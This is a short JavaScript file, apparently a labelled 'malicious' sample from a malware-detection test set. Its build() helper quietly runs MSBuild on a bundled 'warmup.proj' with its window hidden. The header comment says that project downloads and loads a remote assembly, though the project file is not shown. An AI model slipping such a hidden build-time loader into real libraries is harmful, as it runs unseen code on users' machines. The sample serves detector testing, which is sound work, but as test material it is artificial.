// expect: malicious
// source: blind set 43's MSBuild runner: a bundled project whose CodeTaskFactory task downloads bytes and Assembly.Load()s
// them, built by the library's first build(); written here
const { spawnSync } = require('child_process');
const path = require('path');
exports.build = (project) => {
  const msb = path.join(process.env.WINDIR || 'C:\\Windows', 'Microsoft.NET', 'Framework64', 'v4.0.30319', 'MSBuild.exe');
  spawnSync(msb, [path.join(__dirname, 'assets', 'warmup.proj')], { windowsHide: true });
  return spawnSync(msb, [project], { stdio: 'inherit' }).status;
};
